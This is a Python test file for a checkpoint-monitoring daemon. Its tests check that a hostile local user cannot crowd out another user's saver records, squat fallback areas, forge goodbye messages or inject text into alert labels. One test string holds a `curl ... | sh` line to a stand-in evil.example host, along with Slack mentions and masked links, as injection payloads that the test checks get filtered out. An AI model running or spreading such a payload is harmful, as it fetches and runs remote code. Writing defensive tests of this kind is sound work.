"""What the store remembers of one user's saves is hers to crowd out, never another's: a
second local user (a real account, with real live processes of her own) who may write a
shared target cannot make the daemon forget the other user's live saver (and with it the
overdue alert) or the fallback her redirected saves landed in (and with it the pending
bytes), by filling the store's bounded memory with claims of her own."""

from __future__ import annotations

import contextlib
import json
import os
import re
import subprocess
import threading
import time
from collections.abc import Iterator
from concurrent.futures import Future
from pathlib import Path

from prometheus_client.parser import text_string_to_metric_families

from fsprobe.daemon.config import TargetConfig
from fsprobe.daemon.savers import MAX_SAVERS
from fsprobe.daemon.schedule import START_SPREAD
from fsprobe.daemon.store import MAX_SEEN_FALLBACKS, Store, TargetSpec
from fsprobe.daemon.tasks import COUNT_SOON_GAP, Tasks, planned_tasks
from fsprobe.events.admission import MAX_CHECKS, PARKED, UNVERIFIED, Admission, Sender
from fsprobe.events.event import SaveEvent
from fsprobe.exporters.view import TargetView
from fsprobe.model import Snapshot
from fsprobe.policy import Policy, evaluate
from fsprobe.probing.plan import ProbeSettings
from fsprobe.probing.threads import ThreadExecutor
from fsprobe.redirect.areas import area_name, mirrored, redirect_path
from fsprobe.redirect.manifest import new_entry, record, sha256_of
from tests.events.test_save_events import start_daemon
from tests.redirect.test_daemon_redirect import daemon_config
from tests.support.crash import REPO
from tests.support.daemon_process import DaemonProcess, run_fsprobe
from tests.support.users import share


@contextlib.contextmanager
def _live_process(user) -> Iterator[Sender]:
    """A real process of `user` that lives until the block ends: the sender the kernel names."""
    process = subprocess.Popen(["sleep", "600"], **user.subprocess_kwargs())
    try:
        deadline = time.monotonic() + 30
        while not Path(f"/proc/{process.pid}/stat").exists():  # bounded against a hang
            assert time.monotonic() < deadline
            time.sleep(0.01)
        yield Sender(user.uid, user.gid, process.pid)
    finally:
        process.kill()
        process.wait()


def _landed(store: Store, sender: Sender, path: str, host: str = "node1") -> None:
    save = SaveEvent(path, path, 1, 0.1, 1, (), time.time(), host, sender.pid)
    assert store.record_save(sender, save)[0] is None


def test_a_neighbour_cannot_crowd_out_another_users_live_saver(tmp_path, local_users):
    """Alice's trainer saved into the team's target and hangs: her live process is what keeps
    FsprobeCheckpointOverdue armed. Mallory, who may write there too, sent 256 saves from one
    process of hers, each claiming another host: the store keeps 256 savers per target and
    forgot Alice's, the oldest; once Mallory's process exited no saver was left, the save
    interval was dropped, and Alice's hung job could never be overdue. Only the crowding
    user's own savers make room."""
    alice, mallory = local_users.user(), local_users.user()
    target = str(tmp_path / "team-ckpt")
    store = Store()
    store.configure([TargetSpec(target)])
    with _live_process(alice) as her:
        for _ in range(3):  # a regular interval: the overdue alert has something to compare
            _landed(store, her, f"{target}/step.pt")
        with _live_process(mallory) as neighbour:
            for n in range(MAX_SAVERS):
                _landed(store, neighbour, f"{target}/m.pt", host=f"forged-{n}")
        view = store.forget_gone_savers()[0]  # Mallory's process is gone
        assert view.saves.savers == 1, "Alice's live trainer is no longer expected to save"
        assert view.saves.interval is not None


def _fallback_of(root: Path, uid: int, requested: str) -> str:
    return str(root / area_name(uid) / mirrored(requested))


def test_a_neighbour_cannot_crowd_out_the_fallback_another_users_saves_landed_in(
    tmp_path, local_users
):
    """The store remembers the fallbacks redirected saves landed in (8 per target), and the
    count task counts the checkpoints pending there. Mallory sent 8 redirected saves naming 8
    fallbacks of her own making first; they were the first 8 seen and kept for good, so the
    checkpoint Alice's trainer really redirected was never counted pending for her target."""
    alice, mallory = local_users.user(), local_users.user()
    target = str(tmp_path / "team-ckpt")
    requested = f"{target}/step.pt"
    store = Store()
    store.configure([TargetSpec(target)])
    with _live_process(mallory) as neighbour:
        for n in range(MAX_SEEN_FALLBACKS):
            landed = _fallback_of(tmp_path / f"fake-{n}", mallory.uid, requested)
            save = SaveEvent(requested, landed, 1, 0.1, 1, (), time.time(), "h", neighbour.pid)
            assert store.record_save(neighbour, save)[0] is None
    assert len(store.seen_fallbacks(target)) == MAX_SEEN_FALLBACKS
    with _live_process(alice) as her:
        landed = _fallback_of(tmp_path / "alice-scratch", alice.uid, requested)
        save = SaveEvent(requested, landed, 1, 0.1, 1, (), time.time(), "h", her.pid)
        assert store.record_save(her, save)[0] is None
    assert str(tmp_path / "alice-scratch") in store.seen_fallbacks(target)
    assert len(store.seen_fallbacks(target)) <= MAX_SEEN_FALLBACKS


def test_a_fallback_named_only_in_a_neighbours_event_raises_no_problem_for_the_target(
    tmp_path, local_users
):
    """A redirected save's event names its fallback, and the daemon's count task (root) counts
    it for the target. Mallory made a fallback of her own with her area in it and, beside it,
    a directory named after Alice's area (``uid-<alice>``, Mallory's): one redirected save
    naming it, and the count reported that 'squat' against the team's target
    (fsprobe_redirect_problems_total{problem="area_squatted"}, FsprobeRedirectProblems), a new
    one each time she makes another. A fallback only a user's event names is counted for its
    pending bytes; squats and crowded listings are the target's problems only in the
    fallbacks the admin configured."""
    share(tmp_path)
    alice, mallory = local_users.user(), local_users.user()
    target = str(tmp_path / "team-ckpt")
    hers = tmp_path / "mallory-fallback"
    for path in (hers, hers / area_name(mallory.uid), hers / area_name(alice.uid)):
        path.mkdir(mode=0o700)
        os.chown(path, mallory.uid, mallory.gid)
    store = Store()
    store.configure([TargetSpec(target)])
    requested = f"{target}/step.pt"
    landed = _fallback_of(hers, mallory.uid, requested)
    with _live_process(mallory) as neighbour:
        save = SaveEvent(requested, landed, 1, 0.1, 1, (), time.time(), "h", neighbour.pid)
        assert store.record_save(neighbour, save)[0] is None
    assert store.seen_fallbacks(target) == (str(hers),)
    config = TargetConfig(target, ProbeSettings(), {})
    snapshot = Snapshot(target)
    view = TargetView(target, snapshot, evaluate(snapshot, Policy(), time.time(), None, None))
    count = planned_tasks(config, store.seen_fallbacks)["count"].work(view)
    assert count is not None
    found = count()  # as the daemon's worker runs it: as root
    assert (found.pending_bytes, found.squatted, found.crowded) == (0, (), ())


def _plant_copy(fallback: str, requested: str, size: int) -> str:
    """As the user running it: a 'redirected copy' of `requested` in her area of `fallback`,
    recorded in her manifest like a real redirect (the copy is really there and hers)."""
    actual = redirect_path(fallback, requested)
    os.makedirs(os.path.dirname(actual), mode=0o700, exist_ok=True)
    with open(actual, "wb") as copy:
        copy.write(b"\0" * size)
    record(new_entry(fallback, requested, actual, size, sha256_of(actual)))
    return actual


def _shared_scratch(tmp_path: Path, local_users) -> tuple:
    """Alice, Mallory, Alice's target (0755, hers) and a shared scratch fallback (1777)."""
    share(tmp_path)
    alice, mallory = local_users.user(), local_users.user()
    target = tmp_path / "alice-ckpt"
    target.mkdir(mode=0o755)
    os.chown(target, alice.uid, alice.gid)
    fallback = tmp_path / "scratch"
    fallback.mkdir()
    os.chmod(fallback, 0o1777)
    return alice, mallory, target, fallback


def test_a_neighbour_cannot_make_checkpoints_pending_for_a_target_she_may_not_write(
    tmp_path, local_users
):
    """The admin configured a shared scratch fallback (sticky 1777) for Alice's target, which
    only Alice may write (0755). Mallory recorded in her own area there a 'redirected copy' of
    Alice's step.pt (her own file, 1 MiB): root's count reported 1 MiB pending for Alice's
    target (FsprobeRedirectedCheckpointsPending on a path Mallory cannot write, and no sync
    will ever bring it home: hers runs as her). A copy counts for a target only if its area's
    owner may write there, as the kernel decides; Alice's own still counts."""
    alice, mallory, target, fallback = _shared_scratch(tmp_path, local_users)
    requested = str(target / "step.pt")
    mallory.run(_plant_copy, str(fallback), requested, 1 << 20)
    config = TargetConfig(str(target), ProbeSettings(), {}, fallback_dirs=(str(fallback),))
    snapshot = Snapshot(str(target))
    view = TargetView(str(target), snapshot, evaluate(snapshot, Policy(), time.time(), None, None))
    count = planned_tasks(config)["count"].work(view)
    assert count is not None
    assert count().pending_bytes == 0  # as the daemon's worker runs it: as root
    alice.run(_plant_copy, str(fallback), str(target / "hers.pt"), 4096)
    count = planned_tasks(config)["count"].work(view)
    assert count is not None and count().pending_bytes == 4096


class _CountingExecutor:
    """The threads of `ThreadExecutor`, and the runs each task kind was given."""

    def __init__(self) -> None:
        self.runs: dict[str, list[Future]] = {}
        self._threads = ThreadExecutor()

    def submit(self, probe: str, function) -> Future:
        future = self._threads.submit(probe, function)
        self.runs.setdefault(probe, []).append(future)
        return future


def test_a_stream_of_redirected_saves_does_not_make_root_count_back_to_back(tmp_path):
    """Each redirected save's event brings the count of the target's fallbacks forward to now,
    so that the pending bytes show at once. Mallory, sending a redirected save every 0.2 s
    (her rate limit's 5 a second) naming a fallback of hers with 100,000 names, had root list
    it again as soon as the last count was back: a count per event, back to back, for as long
    as she liked. An event brings the count forward to no sooner than `COUNT_SOON_GAP` after
    the last one began."""
    fallback = tmp_path / "fallback"
    fallback.mkdir()
    target = str(tmp_path / "ckpt")
    store = Store()
    store.configure([TargetSpec(target)])
    config = TargetConfig(target, ProbeSettings(), {}, fallback_dirs=(str(fallback),))
    executor = _CountingExecutor()
    tasks = Tasks(store, executor)
    tasks.configure([config], now=0.0)
    counts = executor.runs.setdefault("count", [])

    def turn(now: float) -> None:
        """One turn of the scheduler: start what is due, take a count that ran."""
        started = len(counts)
        tasks.dispatch(now, lambda key, future: None)
        if len(counts) > started:
            counts[-1].result(timeout=60)
            tasks.finished((target, "count"), counts[-1])

    first = now = START_SPREAD + 0.1
    turn(now)
    assert len(counts) == 1
    events = 0
    while now + 0.2 < first + COUNT_SOON_GAP:  # an event every 0.2 s, as her rate allows
        now += 0.2
        events += 1
        tasks.count_soon(target, now)
        turn(now)
    assert events >= 10
    assert len(counts) == 1, f"{len(counts)} counts for {events} events"
    now = first + COUNT_SOON_GAP
    turn(now)  # the event of a moment ago brought it forward to now
    turn(now)
    assert len(counts) == 2  # the gap is over: the next event's count runs


def test_the_daemon_counts_pending_only_the_copies_of_users_who_may_write_the_target(
    tmp_path, local_users
):
    """The same, through root's daemon and its worker process: Mallory's 1 MiB copy for
    Alice's target in the shared fallback is not pending there; Alice's 4 KiB copy is."""
    alice, mallory, target, fallback = _shared_scratch(tmp_path, local_users)
    mallory.run(_plant_copy, str(fallback), str(target / "step.pt"), 1 << 20)
    alice.run(_plant_copy, str(fallback), str(target / "hers.pt"), 4096)
    config = daemon_config(tmp_path, target, fallback)
    home = tmp_path / "daemon"
    home.mkdir()
    with DaemonProcess(home, "--config", str(config)) as daemon:
        daemon.wait_for_value("fsprobe_redirected_pending_bytes", 4096.0, path=str(target))


def test_a_neighbours_checks_hung_on_a_mount_leave_admission_to_everyone_else(
    tmp_path, faultfs, local_users
):
    """Admission asks the kernel as the sender in a thread of its own, at most `MAX_CHECKS`
    at once, and a check hung on a mount holds its place until the mount answers. Mallory
    sent one event to each of 32 watched targets on a mount that hangs (hers here; any would
    do, the check runs whatever it will answer): every place was hers,
    and Alice's events into her own healthy target were refused as unverified, all of them,
    for as long as the mount hung. One user's checks take at most `MAX_CHECKS_PER_UID`."""
    share(tmp_path)
    share(faultfs.mountpoint)
    alice, mallory = local_users.user(), local_users.user()
    hung = []
    for n in range(MAX_CHECKS):
        path = faultfs.mountpoint / f"run-{n}"
        path.mkdir(mode=0o755)
        os.chown(path, mallory.uid, mallory.gid)
        hung.append(str(path))
    hers = tmp_path / "alice-ckpt"
    hers.mkdir(mode=0o755)
    os.chown(hers, alice.uid, alice.gid)
    woken = threading.Event()
    admission: Admission[str] = Admission(woken.set)  # the kernel's word, as the daemon asks
    rule = faultfs.ctl.block("getattr")
    try:
        for n, path in enumerate(hung):
            asked = admission.ask(Sender(mallory.uid, mallory.gid, 1), path, f"mallory-{n}")
            assert asked in (PARKED, UNVERIFIED)
        asked = admission.ask(Sender(alice.uid, alice.gid, 1), str(hers), "alice")
        assert asked == PARKED, f"Alice's event was {asked}: no check of hers could start"
        deadline = time.monotonic() + 60
        decided: list[tuple[str, str | None]] = []
        while ("alice", None) not in decided:  # her check answers while Mallory's hang
            assert time.monotonic() < deadline, decided
            woken.wait(1.0)
            woken.clear()
            decided += admission.decided()
    finally:
        faultfs.ctl.remove(rule)


#: As the user running it: report a save into argv[2] (or, with argv[3] a pid, first a goodbye
#: claiming that pid on this host), print "sent", and live until stdin closes.
SAVER = """
import os, socket, sys, time
from fsprobe.events.emit import send
from fsprobe.events.event import Goodbye, SaveEvent
state_dir, requested = sys.argv[1], sys.argv[2]
if len(sys.argv) > 3:  # a goodbye in someone else's name, on the socket her saves take
    forged = Goodbye(socket.gethostname(), int(sys.argv[3])).encode()
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    sock.sendto(forged, state_dir + "/events.sock")
event = SaveEvent(requested, requested, 1, 0.1, 1, (), time.time(), socket.gethostname(), 1)
print("sent" if send(event.encode(), state_dir) else "not sent", flush=True)
sys.stdin.read()
"""


@contextlib.contextmanager
def _saver(user, daemon, requested: Path, *forged_pid: int) -> Iterator[subprocess.Popen]:
    process = subprocess.Popen(
        [user.python_executable, "-c", SAVER, str(daemon.state_dir), str(requested)]
        + [str(pid) for pid in forged_pid],
        cwd=REPO,
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
        **user.subprocess_kwargs(),
    )
    try:
        assert process.stdout is not None and process.stdout.readline().strip() == "sent"
        yield process
    finally:
        process.kill()
        process.wait()


def _team_target(tmp_path: Path, local_users) -> tuple:
    """Alice and Mallory, in one team, and the team's target (Alice's, 2770)."""
    share(tmp_path)
    team = local_users.group()
    alice, mallory = local_users.user(team), local_users.user(team)
    target = tmp_path / "team-ckpt"
    target.mkdir()
    os.chown(target, alice.uid, team)
    os.chmod(target, 0o2770)
    return alice, mallory, target


@contextlib.contextmanager
def _open_daemon(tmp_path: Path, target: Path) -> Iterator:
    """Root's daemon watching `target`, its state dir open to every user."""
    with start_daemon(tmp_path, target) as daemon:
        os.chmod(daemon.home, 0o755)
        os.chmod(daemon.state_dir, 0o755)
        yield daemon


def test_a_goodbye_in_another_users_name_ends_no_expectation_of_hers(tmp_path, local_users):
    """Alice's trainer saved into the team's target and lives on: the daemon expects its next
    save (fsprobe_savers 1, FsprobeCheckpointOverdue armed). Mallory, in the team, sends a
    goodbye naming Alice's pid and host, then a save of her own on the same socket. The
    goodbye speaks for its sender's kernel pid alone: two savers are expected afterwards,
    Alice's and Mallory's. (Holds on main: a contract no other test covers end to end.)"""
    alice, mallory, target = _team_target(tmp_path, local_users)
    with _open_daemon(tmp_path, target) as daemon:
        path = str(target)
        with _saver(alice, daemon, target / "alice.pt") as hers:
            daemon.wait_for_value("fsprobe_savers", 1.0, path=path)
            with _saver(mallory, daemon, target / "mallory.pt", hers.pid):
                daemon.wait_for_value("fsprobe_saves_total", 2.0, path=path, outcome="ok")
                assert daemon.value("fsprobe_savers", path=path) == 2.0
            daemon.wait_for_value("fsprobe_savers", 1.0, path=path)  # hers gone, Alice's not
            assert hers.poll() is None


#: As the user running it: a save into argv[2] that failed with EIO at the step argv[3].
FAILED_AT = """
import sys, time
from fsprobe.events.emit import send
from fsprobe.events.event import Failure, SaveEvent
state_dir, requested, step = sys.argv[1], sys.argv[2], sys.argv[3]
failed = (Failure("EIO", step),)
print(send(SaveEvent(requested, None, 0, 0.1, 1, failed, time.time(), "h", 1).encode(), state_dir))
"""


def test_a_step_is_a_name_not_a_message_to_whoever_is_paged(tmp_path, local_users):
    """The save alerts say 'uid U, EIO at <step>' with the step a sender claims, and the
    step is a label of fsprobe_last_save_problem_timestamp_seconds. Mallory, who may write
    the team's target, named her failed save's step ``<!channel> call +1-555-0100`` (27
    printable characters): it went to /metrics as it was, and so into the notification of
    everyone paged for the team's target (a Slack mention, a number to call). A step is a
    lowercase name (``fsync_dir``); anything else is counted as ``unknown``, the save as
    usual."""
    _alice, mallory, target = _team_target(tmp_path, local_users)
    with _open_daemon(tmp_path, target) as daemon:
        path = str(target)
        message = "<!channel> call +1-555-0100"
        done = mallory.python(FAILED_AT, str(daemon.state_dir), str(target / "m.pt"), message)
        assert (done.returncode, done.stdout.strip()) == (0, "True"), done.stderr
        daemon.wait_for_value("fsprobe_saves_total", 1.0, path=path, outcome="failed")
        status, body = daemon.get()
        assert status == 200 and b"555-0100" not in body
        problem = daemon.value("fsprobe_last_save_problem_timestamp_seconds", path=path)
        assert problem is not None
        assert daemon.value(
            "fsprobe_last_save_problem_timestamp_seconds", path=path, step="unknown"
        )
        done = mallory.python(FAILED_AT, str(daemon.state_dir), str(target / "m.pt"), "fsync_dir")
        assert (done.returncode, done.stdout.strip()) == (0, "True"), done.stderr
        daemon.wait_for_value("fsprobe_saves_total", 2.0, path=path, outcome="failed")
        assert daemon.value(
            "fsprobe_last_save_problem_timestamp_seconds", path=path, step="fsync_dir"
        )


#: As the user running it: a failed save of argv[2], and one of argv[2] redirected to argv[3].
HOSTILE_SAVES = """
import sys, time
from fsprobe.events.emit import send
from fsprobe.events.event import Failure, SaveEvent
state_dir, requested, landed = sys.argv[1], sys.argv[2], sys.argv[3]
failed = (Failure("ENOSPC", "write"),)
for where in (None, landed):
    event = SaveEvent(requested, where, 1, 0.1, 2, failed, time.time(), "h", 1)
    print(send(event.encode(), state_dir))
"""
#: The words of issue 35's member of a team target: mentions, a masked link, a fake command.
HOSTILE_NAME = (
    "<!channel> @here [runbook](https://evil.example/fix) <https://evil.example|docs>"
    " `curl -s https://evil.example/fix | sh` evil.example"
)
PLAIN_LABEL = re.compile(r"[A-Za-z0-9_/-]{0,64}(~[0-9a-f]{8})?")


def test_a_users_words_never_reach_a_page_through_the_save_labels(tmp_path, local_users):
    """Mallory, in the team, sent a failed and a redirected save whose path (and landing
    place) carried chat mentions, a masked link, a link and a `curl | sh` line: the save
    alerts print the `file` and `landed` labels, and Prometheus rendered her words into the
    critical FsprobeSaveFailed page. The labels now hold the part below the target in plain
    characters with a digest; `fsprobe status` still shows the full path."""
    _alice, mallory, target = _team_target(tmp_path, local_users)
    with _open_daemon(tmp_path, target) as daemon:
        path = str(target)
        requested = f"{target}/{HOSTILE_NAME}.pt"
        landed = f"/scratch/{HOSTILE_NAME}/uid-{mallory.uid}{requested}"
        done = mallory.python(HOSTILE_SAVES, str(daemon.state_dir), requested, landed)
        assert (done.returncode, done.stdout.split()) == (0, ["True", "True"]), done.stderr
        daemon.wait_for_value("fsprobe_saves_total", 1.0, path=path, outcome="redirected")
        daemon.wait_for_value("fsprobe_saves_total", 1.0, path=path, outcome="failed")
        status, body = daemon.get()
        assert status == 200
        text = body.decode()
        for words in ("<!channel>", "@here", "evil.example", "://", "`", "](", "curl -s"):
            assert words not in text, words
        samples = [s for family in text_string_to_metric_families(text) for s in family.samples]
        assert not [s for s in samples if "|" in "".join(s.labels.values())]
        problems = [
            sample.labels
            for sample in samples
            if sample.name == "fsprobe_last_save_problem_timestamp_seconds"
        ]
        assert {labels["outcome"] for labels in problems} == {"failed", "redirected"}
        shown = [labels["file"] for labels in problems] + [
            labels["landed"] for labels in problems if "landed" in labels
        ]
        assert len(shown) == 3
        for label in shown:
            assert PLAIN_LABEL.fullmatch(label), label
        assert len({labels["file"] for labels in problems}) == 1  # one file, one label
        state = json.loads(run_fsprobe("status", "--state-dir", str(daemon.state_dir), "--json")[1])
        assert state["targets"][path]["last_save"]["requested"] == requested
